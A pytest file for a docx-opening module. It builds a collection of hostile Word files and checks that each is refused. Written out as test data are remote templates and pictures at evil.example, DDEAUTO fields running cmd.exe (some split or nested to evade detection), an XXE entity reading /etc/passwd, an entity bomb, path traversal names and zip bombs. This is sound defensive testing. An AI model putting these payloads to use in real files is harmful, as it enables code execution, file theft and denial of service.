"""Opening any docx safely; a museum of hostile files, each made where it is needed."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from controller.domain.errors import QmsError
from controller.file_formats.docx_package import (
    DocxPackage,
    EmbeddedObjectError,
    ExternalLinkError,
    MacroError,
    NotAWordDocumentError,
    OldWordFormatError,
    StrictFormatError,
    XmlDeclarationError,
    open_docx,
    write_docx,
)
from controller.file_formats.zip_container import (
    DuplicatePartError,
    EncryptedFileError,
    NotAZipError,
    PackedPart,
    PartDamagedError,
    TruncatedZipError,
    UnsafePartNameError,
    ZipBombError,
    write_zip,
)
from tests.docx_files import CONTENT_TYPES, document, document_relationships, docx, paragraph, zipped

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationship Id="rId9" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


def with_type(part: str, kind: str) -> str:
    return CONTENT_TYPES.replace("</Types>", f'<Override PartName="/{part}" ContentType="{kind}"/></Types>')


def test_an_ordinary_docx_opens_with_its_parts_in_a_fixed_order() -> None:
    package = open_docx(docx("质量投诉处理记录", parts={"word/styles.xml": "<a/>", "docProps/app.xml": "<a/>"}))
    assert list(package.parts) == [
        "[Content_Types].xml",
        "_rels/.rels",
        "docProps/app.xml",
        "word/document.xml",
        "word/styles.xml",
    ]
    assert package.main == "word/document.xml"
    assert "质量投诉处理记录" in package.contents["word/document.xml"].decode()


def test_a_docx_of_python_docx_opens_and_tells_its_text_parts_and_properties() -> None:
    file = Document()
    file.sections[0].header.paragraphs[0].text = "页眉"
    stream = io.BytesIO()
    file.save(stream)
    package = open_docx(stream.getvalue())
    assert package.text_parts() == ["word/document.xml", "word/header1.xml"]
    assert package.core_properties() == "docProps/core.xml"


def fields(*codes: str) -> str:
    """Return a paragraph with a field of these pieces of code; what stands in braces is a field within it."""
    begin, end = ('<w:r><w:fldChar w:fldCharType="' + kind + '"/></w:r>' for kind in ("begin", "end"))
    pieces = []
    for code in codes:
        text = f"<w:r><w:instrText>{code.strip('{}')}</w:instrText></w:r>"
        pieces.append(begin + text + end if code.startswith("{") else text)
    return f"<w:p>{begin}{''.join(pieces)}{end}</w:p>"


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
BOMB_XML = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
VBA = "application/vnd.ms-office.vbaProject"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

MUSEUM: dict[str, tuple[type[QmsError], bytes]] = {
    "empty": (NotAZipError, b""),
    "plain text": (NotAZipError, "这不是 Word 文件".encode()),
    "pdf": (NotAZipError, b"%PDF-1.7\n"),
    "old doc": (OldWordFormatError, OLE),
    "password": (EncryptedFileError, OLE + "EncryptedPackage".encode("utf-16-le")),
    "cut in half": (TruncatedZipError, docx("内容" * 500)[:400]),
    "cut at the end": (TruncatedZipError, docx("内容")[:-5]),
    "trailing bytes": (TruncatedZipError, docx("内容") + b"more"),
    "head missing": (TruncatedZipError, b"PK" + docx("内容")),
    "no document": (NotAWordDocumentError, zipped({"a.txt": "x"})),
    "a workbook": (NotAWordDocumentError, docx(parts={"[Content_Types].xml": CONTENT_TYPES.replace("word", "sheet")})),
    "strict kind": (
        StrictFormatError,
        docx(
            parts={
                "word/document.xml": document(paragraph("x")).replace(
                    "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                    "http://purl.oclc.org/ooxml/wordprocessingml/main",
                )
            }
        ),
    ),
    "absolute name": (UnsafePartNameError, docx(parts={"/etc/passwd": "x"})),
    "parent folder": (UnsafePartNameError, docx(parts={"word/../../evil.xml": "<a/>"})),
    "backslash": (UnsafePartNameError, docx(parts={"word\x5cevil.xml": "<a/>"})),
    "drive letter": (UnsafePartNameError, docx(parts={"C:/evil.xml": "<a/>"})),
    "same name twice": (DuplicatePartError, docx(parts={"word/a.xml": "<a/>", "Word/A.xml": "<b/>"})),
    "vba project": (MacroError, docx(parts={"word/vbaProject.bin": b"x"})),
    "vba under another name": (
        MacroError,
        docx(parts={"word/x.bin": b"x", "[Content_Types].xml": with_type("word/x.bin", VBA)}),
    ),
    "docm": (MacroError, docx(parts={"[Content_Types].xml": CONTENT_TYPES.replace(MAIN, MACRO_MAIN)})),
    "ole object": (EmbeddedObjectError, docx(parts={"word/embeddings/oleObject1.bin": b"x"})),
    "ole under another name": (EmbeddedObjectError, docx(parts={"word/media/image1.png": OLE})),
    "program": (EmbeddedObjectError, docx(parts={"word/media/image1.png": b"MZ\x90\0program"})),
    "active x": (EmbeddedObjectError, docx(parts={"word/activeX/activeX1.xml": "<a/>"})),
    "alternative chunk": (
        EmbeddedObjectError,
        docx(parts={"word/x.html": "<a/>", **document_relationships(relation("aFChunk", "x.html", ""))}),
    ),
    "remote template": (
        ExternalLinkError,
        docx(parts=document_relationships(relation("attachedTemplate", "http://evil.example/t.dotm"))),
    ),
    "remote picture": (
        ExternalLinkError,
        docx(parts=document_relationships(relation("image", "https://evil.example/p.png"))),
    ),
    "link to a file": (
        ExternalLinkError,
        docx(parts=document_relationships(relation("hyperlink", "file:///c:/windows/x"))),
    ),
    "link to a share": (
        ExternalLinkError,
        docx(parts=document_relationships(relation("hyperlink", "\\\\evil\\share\\x"))),
    ),
    "script link": (
        ExternalLinkError,
        docx(parts=document_relationships(relation("hyperlink", "javascript:alert(1)"))),
    ),
    "internal that is not": (
        ExternalLinkError,
        docx(parts=document_relationships(relation("image", "http://evil.example/p.png", ""))),
    ),
    "data exchange field in pieces": (
        ExternalLinkError,
        docx(
            parts={
                "word/document.xml": document(
                    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
                    "<w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>"
                    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
                )
            }
        ),
    ),
    "data exchange field under another": (
        ExternalLinkError,
        docx(parts={"word/document.xml": document(fields("{QUOTE 68 68 69 }", " c:\\\\cmd.exe"))}),
    ),
    "name of a field in two pieces": (
        ExternalLinkError,
        docx(parts={"word/document.xml": document(fields("DD", "{QUOTE 69 }", "EAUTO c:\\\\cmd.exe"))}),
    ),
    "data exchange field within a question": (
        ExternalLinkError,
        docx(parts={"word/document.xml": document(fields("IF ", "{DDEAUTO c:\\\\cmd.exe }", " = 1"))}),
    ),
    "deleted data exchange field": (
        ExternalLinkError,
        docx(parts={"word/document.xml": document(fields("DDEAUTO c:\\\\cmd.exe").replace("instr", "delInstr"))}),
    ),
    "field without its beginning": (
        ExternalLinkError,
        docx(parts={"word/document.xml": document("<w:p><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>")}),
    ),
    "add-in that starts by itself": (
        EmbeddedObjectError,
        docx(
            parts={
                "word/webextensions/taskpanes.xml": "<a/>",
                "[Content_Types].xml": with_type(
                    "word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml"
                ),
            }
        ),
    ),
    "buttons of its own": (
        MacroError,
        docx(parts={"customUI/customUI14.xml": "<a/>"}),
    ),
    "keys of its own": (
        MacroError,
        docx(
            parts={
                "word/customizations.xml": "<a/>",
                **document_relationships(relation("keyMapCustomizations", "customizations.xml", "")),
            }
        ),
    ),
    "sub-document": (
        EmbeddedObjectError,
        docx(parts={"word/x.docx": b"x", **document_relationships(relation("subDocument", "x.docx", ""))}),
    ),
    "addresses for letters": (
        ExternalLinkError,
        docx(parts=document_relationships(relation("mailMergeSource", "file:///c:/people.mdb"))),
    ),
    "page in a frame": (
        ExternalLinkError,
        docx(parts=document_relationships(relation("frame", "https://evil.example/a.htm"))),
    ),
    "linked object": (
        ExternalLinkError,
        docx(parts=document_relationships(relation("oleObject", "file:///c:/a.xls").replace("oleObject", "link"))),
    ),
    "picture field": (
        ExternalLinkError,
        docx(
            parts={
                "word/document.xml": document(
                    '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/p&quot; "/></w:p>'
                )
            }
        ),
    ),
    "entity bomb": (
        XmlDeclarationError,
        docx(parts={"word/document.xml": BOMB_XML + document(paragraph("&b;"))}),
    ),
    "entity that reads a file": (
        XmlDeclarationError,
        docx(parts={"word/footer1.xml": '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'}),
    ),
    "declaration in utf-16": (
        XmlDeclarationError,
        docx(parts={"customXml/item1.xml": (BOMB_XML + "<x/>").encode("utf-16")}),
    ),
    "declaration in another encoding": (
        XmlDeclarationError,
        docx(parts={"word/styles.xml": b'<?xml version="1.0" encoding="UTF-7"?><x/>'}),
    ),
    "declaration in a picture": (
        XmlDeclarationError,
        docx(parts={"word/media/image1.svg": "<!DOCTYPE svg><svg/>"}),
    ),
    "not xml": (PartDamagedError, docx(parts={"word/styles.xml": "<a><b></a>"})),
    "not utf-8": (PartDamagedError, docx(parts={"word/styles.xml": "<a>质量</a>".encode("gbk")})),
    "very deep": (PartDamagedError, docx(parts={"word/styles.xml": "<a>" * 5000 + "</a>" * 5000})),
    "a thousandfold": (ZipBombError, docx(parts={"word/media/image1.bmp": b"\0" * 3_000_000})),
    "too many parts": (ZipBombError, docx(parts={f"word/media/{number}.txt": b"" for number in range(2_100)})),
}


@pytest.mark.parametrize("name", MUSEUM)
def test_every_hostile_file_of_the_museum_is_refused_with_its_own_error(name: str) -> None:
    error, data = MUSEUM[name]
    with pytest.raises(error) as caught:
        open_docx(data)
    assert type(caught.value) is error
    assert caught.value.hint is not None


def test_the_message_names_the_part_concerned() -> None:
    with pytest.raises(XmlDeclarationError, match=r"word/footer1\.xml"):
        open_docx(docx(parts={"word/footer1.xml": "<!DOCTYPE x><x/>"}))


def test_ordinary_hyperlinks_mail_addresses_and_anchors_may_stay() -> None:
    lines = [
        relation("hyperlink", target).replace("rId9", f"rId{number}")
        for number, target in enumerate(["https://www.nmpa.gov.cn/", "mailto:qa@example.com", "#第一章"])
    ]
    assert open_docx(docx("正文", parts=document_relationships(*lines))).main == "word/document.xml"


def test_fields_within_fields_may_stay() -> None:
    body = fields("IF ", "{PAGE }", " = 1 yes no") + fields("={PAGE }".partition("{")[0], "{PAGE }", " + 1")
    assert open_docx(docx(parts={"word/document.xml": document(body)})).main == "word/document.xml"


def test_a_page_number_field_may_stay() -> None:
    field = '<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:instrText> NUMPAGES </w:instrText></w:r></w:p>'
    assert open_docx(docx(parts={"word/document.xml": document(field)})).main == "word/document.xml"


def lying_size(claimed: int) -> bytes:
    """A docx whose document claims to unpack to `claimed` bytes and unpacks to ten million."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = compressor.compress(b"<a>" + b" " * 10_000_000 + b"</a>") + compressor.flush()
    parts = [PackedPart.stored("[Content_Types].xml", CONTENT_TYPES.encode())]
    return write_zip([*parts, PackedPart("word/document.xml", 8, 0, claimed, packed)])


def test_a_part_that_unpacks_to_more_than_it_says_is_stopped_at_what_it_says() -> None:
    with pytest.raises(ZipBombError):
        open_docx(lying_size(1_000))


def test_a_part_that_says_it_is_larger_than_everything_together_may_be_is_refused_unread() -> None:
    with pytest.raises(ZipBombError):
        open_docx(lying_size(200 * 1024 * 1024))


def test_parts_that_share_their_data_are_refused() -> None:
    # The second part lies inside the data of the first: a few kilobytes can so be unpacked a thousand times.
    inner = write_zip([PackedPart.stored("word/inner.xml", b"<a/>")])
    outer = write_zip([PackedPart.stored("word/outer.xml", inner)])
    at = outer.index(inner)
    inside = inner[inner.index(b"PK\x01\x02") : inner.index(b"PK\x05\x06")]
    moved = inside[:42] + struct.pack("<L", at) + inside[46:]
    end = outer.rfind(b"PK\x05\x06")
    size, offset = struct.unpack_from("<LL", outer, end + 12)
    directory = outer[offset : offset + size] + moved
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, len(directory), offset, 0)
    with pytest.raises(ZipBombError):
        open_docx(outer[:offset] + directory + tail)


def test_a_wrong_checksum_is_damage() -> None:
    data = write_zip([PackedPart("[Content_Types].xml", 0, 1, 4, b"<a/>")])
    with pytest.raises(PartDamagedError):
        open_docx(data)


@settings(max_examples=150, deadline=None)
@given(place=st.integers(0, 10_000), value=st.integers(0, 255))
def test_one_changed_byte_gives_a_docx_or_one_of_our_errors(place: int, value: int) -> None:
    data = bytearray(docx("质量投诉处理记录 {{ number }}"))
    data[place % len(data)] = value
    try:
        result: object = open_docx(bytes(data))
    except QmsError as error:
        result = error
    assert isinstance(result, (DocxPackage, QmsError))


def test_a_written_docx_is_sound_for_zipfile_and_python_docx() -> None:
    stream = io.BytesIO()
    Document().save(stream)
    written = write_docx(open_docx(stream.getvalue()).parts.values())
    assert zipfile.ZipFile(io.BytesIO(written)).testzip() is None
    assert len(Document(io.BytesIO(written)).styles) == len(Document(io.BytesIO(stream.getvalue())).styles)


def test_unchanged_parts_keep_their_compressed_bytes_and_changed_ones_are_stored() -> None:
    package = open_docx(docx("旧", parts={"word/styles.xml": "<a>" + "样式" * 100 + "</a>"}))
    parts: dict[str, bytes | PackedPart] = {**package.parts, "word/document.xml": document(paragraph("新")).encode()}
    written = open_docx(write_docx(parts))
    assert written.parts["word/styles.xml"] == package.parts["word/styles.xml"]
    assert written.parts["word/document.xml"].method == 0


def test_writing_knows_no_clock_and_no_order_of_the_parts() -> None:
    parts = {"word/z.xml": b"<z/>", "[Content_Types].xml": b"<a/>", "word/a.xml": b"<a/>", "_rels/.rels": b"<a/>"}
    written = write_docx(parts)
    assert written == write_docx(dict(reversed(parts.items())))
    infos = zipfile.ZipFile(io.BytesIO(written)).infolist()
    assert [info.filename for info in infos] == ["[Content_Types].xml", "_rels/.rels", "word/a.xml", "word/z.xml"]
    assert {info.date_time for info in infos} == {(1980, 1, 1, 0, 0, 0)}


@given(
    st.dictionaries(st.from_regex(r"word/[a-z一-龥]{1,8}\.txt", fullmatch=True), st.binary(max_size=300), max_size=5)
)
def test_what_is_written_reads_back_equal(files: dict[str, bytes]) -> None:
    base = open_docx(docx("正文"))
    parts: dict[str, bytes | PackedPart] = {**base.parts, **{name: b"#" + data for name, data in files.items()}}
    package = open_docx(write_docx(parts))
    assert {name: package.contents[name] for name in files} == {name: b"#" + data for name, data in files.items()}
